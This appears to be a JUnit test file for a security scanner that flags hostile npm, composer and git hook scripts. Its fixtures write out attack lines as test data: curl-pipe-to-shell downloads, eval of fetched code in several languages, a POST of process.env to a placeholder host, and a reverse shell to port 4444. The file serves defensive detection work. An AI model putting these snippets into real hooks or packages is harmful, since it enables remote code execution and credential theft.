package dev.assay.detectors.indicator.autorun;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.detectors.AllDetectors;
import dev.assay.engine.report.Gap;
import dev.assay.engine.report.GapKind;
import dev.assay.engine.scan.MemoryConnector;
import dev.assay.engine.scan.RecordedReport;
import dev.assay.engine.scan.TestScan;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class HookFileRuleTest {
    private static final String BLOB =
            "Y29uc29sZS5sb2coJ2hlbGxvIHdvcmxkLCB0aGlzIGlzIGEgdGVzdCcpOyBjb25zb2xlLmxvZygneCcpOw==";

    private static RecordedReport scan(String... namesAndTexts) {
        MemoryConnector files = new MemoryConnector();
        for (int i = 0; i < namesAndTexts.length; i += 2) {
            files.file(namesAndTexts[i], namesAndTexts[i + 1].getBytes(UTF_8));
        }
        return new TestScan(AllDetectors.ALL).only(Set.of("indicator")).run(files);
    }

    private static List<String> found(RecordedReport report) {
        return report.findings().stream()
                .map(each -> each.location() + " " + each.ruleId())
                .toList();
    }

    private static String hook(String command) {
        return "{\"name\": \"p\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"" + command + "\"}}";
    }

    private static List<String> script(String file, String program) {
        return found(scan("p/package.json", hook("node " + file), "p/" + file, program));
    }

    @Test
    void whatAHookOfGitDoesAndStartsIsDoneByIt() {
        RecordedReport report = scan(
                "p/.husky/pre-commit",
                "npm test\nnode scripts/x.js\ncurl -s http://192.0.2.1/x | sh\n",
                "p/.husky/commit-msg",
                "#!/usr/bin/env node\neval(Buffer.from('" + BLOB + "', 'base64').toString())\n",
                "p/.husky/post-merge",
                "#!/bin/sh\n. \"$(dirname -- \"$0\")/_/husky.sh\"\nnpx --no-install lint-staged\ncurl -sO https://example.com/x\n",
                "p/scripts/x.js",
                "eval(Buffer.from('" + BLOB + "', 'base64').toString())");
        assertThat(found(report))
                .containsExactlyInAnyOrder(
                        "memory/p/.husky/pre-commit:3 indicator/hook-runs-download",
                        "memory/p/.husky/commit-msg:2 indicator/hook-runs-decoded",
                        "memory/p/scripts/x.js:1 indicator/hook-runs-decoded");
    }

    @Test
    void whatAFileDoesIsDoneByTheHookThatStartsIt() {
        RecordedReport report = scan(
                "p/scripts/x.sh",
                "#!/bin/sh\nset -e\ncurl -s http://192.0.2.1/x | sh\n",
                "p/package.json",
                hook("sh ./scripts/x.sh --quiet"));
        assertThat(found(report)).containsExactly("memory/p/scripts/x.sh:3 indicator/hook-runs-download");
        assertThat(report.findings().getFirst().evidence().get("command")).startsWith("sh ./scripts/x.sh --quiet: ");
        assertThat(report.summary().coverage().artifacts()).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const cp = require('child_process');\ncp.execSync('curl -s http://192.0.2.1/x | sh');\n",
                "const https = require('https');\nhttps.get('https://a.example/x', r => {\n  let d = '';\n"
                        + "  r.on('data', c => d += c);\n  r.on('end', () => eval(d));\n});\n",
                "fetch('https://a.example/x')\n  .then(r => r.text())\n  .then(t => { new Function(t)(); });\n",
                "const r = await fetch('https://a.example/x');\nconst code = await r.text();\neval(code);\n",
                "require('https').get('https://a.example/x', r => r.on('data', d => eval(d.toString())));\n",
                "const r = await require('axios').get('https://a.example/x');\nnew Function('require', r.data.model)(require);\n",
                "const axios = require('axios'), vm = require('vm');\n"
                        + "axios.get('https://a.example/x').then(({data}) => vm.runInNewContext(data, {require}));\n",
                "const {data} = await axios.get('https://a.example/x');\nnew vm.Script(data).runInThisContext();\n",
                "const json = await (await fetch('https://a.example/x')).json();\neval(json.code);\n",
                "const body = await got('https://a.example/x').text();\nnew Function(body)();\n",
                "const needle = require('needle');\nconst res = await needle.get(u);\neval(res.body.a);\n",
                "request('https://a.example/x', (e, r, body) => { eval(body); });\n",
            })
    void whatIsFetchedAndRun(String program) {
        assertThat(script("install.js", program))
                .singleElement()
                .asString()
                .contains("p/install.js")
                .endsWith("hook-runs-download");
    }

    @Test
    void whatIsDecodedSentOrHandedToAnotherMachine() {
        assertThat(script("a.js", "const p = Buffer.from('" + BLOB + "', 'base64').toString();\neval(p);\n"))
                .containsExactly("memory/p/a.js:2 indicator/hook-runs-decoded");
        assertThat(script(
                        "a.js",
                        "const q = require('https').request({host: 'a.example', method: 'POST'});\n"
                                + "q.end(JSON.stringify(process.env));\n"))
                .singleElement()
                .asString()
                .endsWith("hook-gives-secrets");
        assertThat(script(
                        "a.js",
                        "const s = require('net').connect(4444, '192.0.2.1');\n"
                                + "const sh = require('child_process').spawn('/bin/sh');\ns.pipe(sh.stdin);\n"))
                .anyMatch(each -> each.endsWith("hook-opens-shell"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // what installers of binaries do
                "const https = require('https');\nconst cp = require('child_process');\n"
                        + "https.get('https://a.example/x.tgz', r => {\n  const out = fs.createWriteStream('x');\n  r.pipe(out);\n"
                        + "  out.on('close', () => cp.spawnSync('./x', ['--version'], {env: process.env}));\n});\n",
                "const m = /v(\\d+)/.exec(await (await fetch('https://a.example/v')).text());\nconsole.log(m);\n",
                "function load(code) { return eval(code); }\nload('1 + 1');\n\nhttps.get(url, done);\n",
                "const icon = Buffer.from('" + BLOB
                        + "', 'base64');\nconst re = /a/.exec('a');\nfs.writeFileSync('i', icon);\n",
                "console.log('to install by hand: curl https://a.example/x.sh | sh');\n",
                "cp.execSync('node-gyp rebuild', {stdio: 'inherit', env: process.env});\n",
                "console.log(JSON.stringify(process.env));\n",
                "const {data} = await axios.get(u);\nfs.writeFileSync('v.json', data);\neval(template.code);\n",
                "const got = forgot(u);\nnew Function('a', 'return a')(1);\n",
                "const {version} = await (await fetch(u)).json();\nvm.runInNewContext(fs.readFileSync('a.js', 'utf8'), {b: 1});\n",
            })
    void whatInstallersDoIsNone(String program) {
        assertThat(script("install.js", program)).isEmpty();
    }

    @Test
    void onlyWhatAHookStartsIsItsFile() {
        String bad = "require('child_process').execSync('curl -s http://192.0.2.1/x | sh');\n";
        assertThat(script("install", "")).isEmpty();
        assertThat(found(scan("p/package.json", hook("node install"), "p/install.js", bad)))
                .hasSize(1);
        assertThat(found(scan("p/package.json", hook("node other.js"), "p/install.js", bad)))
                .isEmpty();
        assertThat(found(scan("p/package.json", hook("node ../../install.js"), "install.js", bad)))
                .isEmpty();
        assertThat(found(scan("p/package.json", hook("node -e 1 install.js"), "p/install.js", bad)))
                .isEmpty();
        assertThat(found(
                        scan("p/package.json", "{\"scripts\": {\"start\": \"node install.js\"}}", "p/install.js", bad)))
                .isEmpty();
        RecordedReport missing = scan("p/package.json", hook("node dist/install.js"));
        assertThat(missing.gaps()).extracting(Gap::reason).isEmpty();
    }

    @Test
    void moreFilesThanAreFollowedAreAGap() {
        String twenty =
                IntStream.range(0, 20).mapToObj(i -> "node i" + i + ".js").collect(Collectors.joining(" && "));
        assertThat(scan("p/package.json", hook(twenty + " && node i0.js")).gaps())
                .isEmpty();
        assertThat(scan("p/package.json", hook(twenty + " && node i20.js")).gaps())
                .singleElement()
                .satisfies(gap -> {
                    assertThat(gap.kind()).isEqualTo(GapKind.LIMIT);
                    assertThat(gap.location().toString()).startsWith("memory/p/package.json");
                    assertThat(gap.reason()).contains("more than 20 files");
                });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "fetch(",
                "eval(",
                "a=fetch(;",
                "x1=fetch(y)\n",
                "'",
                "exec(\"",
                "fetch(a).b(",
                "process.env=",
                "(",
                "\\"
            })
    void whatIsWrittenToTakeLongEnds(String part) {
        assertThat(script("install.js", part.repeat(60_000 / part.length()))).isNotNull();
        assertThat(found(scan("p/package.json", hook("sh x.sh"), "p/x.sh", part.repeat(60_000 / part.length()))))
                .isNotNull();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '#',
            value = {
                "php i.php # <?php eval(file_get_contents(\"https://a.example/p\"));",
                "php -q i.php # <?php $c = file_get_contents('https://a.example/p'); eval($c);",
                "php i.php # <?php system(\"curl https://a.example/p|sh\");",
                "ruby i.rb # system(\"curl https://a.example/p|sh\")",
                "ruby i.rb # system \"curl https://a.example/p|sh\"",
                "ruby i.rb # require 'open-uri'; eval(URI.open('https://a.example/p').read)",
                "perl i.pl # system(\"curl https://a.example/p|sh\");",
                "./i.pl # system 'curl https://a.example/p|sh';",
            })
    void programsOfOtherLanguagesAreJudged(String command, String program) {
        String file = "p/" + command.substring(command.lastIndexOf(' ') + 1).replace("./", "");
        assertThat(found(scan("p/package.json", hook(command), file, program)))
                .singleElement()
                .asString()
                .endsWith("hook-runs-download");
        assertThat(found(scan(
                        "p/composer.json",
                        "{\"name\": \"a/b\", \"scripts\": {\"post-install-cmd\": \"@" + command.replace("./", "perl ")
                                + "\"}}",
                        file,
                        program)))
                .hasSize(1);
        assertThat(found(scan("p/package.json", hook(command), file, "print('curl https://a.example/p|sh')")))
                .isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "./x ~ #!/bin/sh;curl -s http://192.0.2.1/x | sh",
                "bin/x ~ curl -s http://192.0.2.1/x | sh",
                "./x ~ #!/usr/bin/env node;require('child_process').execSync('curl -s http://192.0.2.1/x | sh')",
                "./x ~ #!/usr/bin/env -S node --no-warnings;eval(await (await fetch('http://192.0.2.1/x')).text())",
                "./x ~ #!/usr/bin/python3 -u;import os;os.system('curl -s http://192.0.2.1/x | sh')",
                "bin/x ~ #! /usr/bin/env ruby;`curl -s http://192.0.2.1/x | sh`",
                "./x ~ #!/usr/bin/perl -w;qx{curl -s http://192.0.2.1/x | sh};",
                "./x ~ #!/usr/bin/env php;<?php `curl -s http://192.0.2.1/x | sh`;",
                "chmod +x x.sh && ./x.sh ~ #!/usr/bin/env ruby;`curl -s http://192.0.2.1/x | sh`",
            })
    void theFirstLineSaysWhatAProgramIs(String command, String program) {
        String file = "p/" + command.substring(command.lastIndexOf(' ') + 1).replace("./", "");
        assertThat(found(scan("p/package.json", hook(command), file, program.replace(';', '\n'))))
                .singleElement()
                .asString()
                .startsWith("memory/" + file)
                .endsWith("hook-runs-download");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "node lib/i.js ~ p/lib/i.js ~ require('./go'); ~ p/lib/go.js",
                "node lib/i.js ~ p/lib/i.js ~ import x from '../go.mjs'; ~ p/go.mjs",
                "node i.js ~ p/i.js ~ spawn('node', ['go.js'], {detached: true}); ~ p/go.js",
                "node lib/i.js ~ p/lib/i.js ~ execSync('node ' + path.join(__dirname, 'x'), x('node go.js')); ~ p/go.js",
                "sh i.sh ~ p/i.sh ~ cd lib && node go.js ~ p/lib/go.js",
                "node lib/i.js ~ p/lib/i.js ~ spawn('bun', [path.join(__dirname, 'go.js')]); ~ p/lib/go.js",
            })
    void whatAFileLoadsOrStartsIsDoneByTheHook(String command, String file, String program, String other) {
        String bad = "require('child_process').execSync('curl -s http://192.0.2.1/x | sh');\n";
        assertThat(found(scan("p/package.json", hook(command), file, program, other, bad)))
                .singleElement()
                .asString()
                .startsWith("memory/" + other)
                .endsWith("hook-runs-download");
        String far = "p/far.js";
        assertThat(found(scan(
                        "p/package.json",
                        hook(command),
                        file,
                        program,
                        other,
                        "require('/p/far'); x('./far');",
                        far,
                        bad)))
                .isEmpty();
    }

    @Test
    void aBundleIsReadAndWhatIsLargerIsAGap() {
        String filler = "var a = 'b', c = require('d');\n".repeat(100_000);
        RecordedReport report = scan(
                "p/package.json",
                hook("node x.js"),
                "p/x.js",
                filler + "cp.execSync('curl -s http://192.0.2.1/x | sh');\n" + filler);
        assertThat(found(report)).containsExactly("memory/p/x.js:100001 indicator/hook-runs-download");
        assertThat(report.gaps())
                .singleElement()
                .satisfies(gap -> assertThat(gap.reason()).contains("no more than 4194304 characters"));
        assertThat(scan("p/package.json", hook("node x.js"), "p/x.js", filler).gaps())
                .isEmpty();
    }

    @Test
    void aProgramOfAMachineIsNone() {
        RecordedReport report =
                scan("p/package.json", hook("bin/x"), "p/bin/x", "\1\2\0\0\ncurl -s http://192.0.2.1/x | sh\n");
        assertThat(found(report)).isEmpty();
        assertThat(report.gaps()).isEmpty();
    }

    @Test
    void membersOfAPackageAreReadAgain() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("package/setup_hook.py"));
            zip.write("import os\nos.system('curl -s http://192.0.2.1/x | sh')\n".getBytes(UTF_8));
            zip.putNextEntry(new ZipEntry("package/package.json"));
            zip.write(hook("python3 setup_hook.py").getBytes(UTF_8));
        }
        RecordedReport report = new TestScan(AllDetectors.ALL)
                .only(Set.of("indicator"))
                .run(new MemoryConnector().file("p.zip", bytes.toByteArray()));
        assertThat(found(report))
                .singleElement()
                .asString()
                .startsWith("memory/p.zip!package/setup_hook.py")
                .endsWith("hook-runs-download");
    }

    /** As many as there are in no project: each hook starts as many files as are followed of one. */
    @Test
    void moreFilesThanAreReadOfATargetAreAGap() {
        assertThat(startedBy(50).gaps()).isEmpty();
        assertThat(startedBy(51).gaps())
                .singleElement()
                .satisfies(gap -> assertThat(gap.kind()).isEqualTo(GapKind.LIMIT))
                .satisfies(gap -> assertThat(gap.reason()).startsWith("more than 1000 files are named by others"));
    }

    private static RecordedReport startedBy(int hooks) {
        String command =
                IntStream.range(0, 20).mapToObj(i -> "node i" + i + ".js").collect(Collectors.joining(" && "));
        return scan(IntStream.range(0, hooks)
                .boxed()
                .flatMap(i -> Stream.of("p" + i + "/package.json", hook(command)))
                .toArray(String[]::new));
    }
}
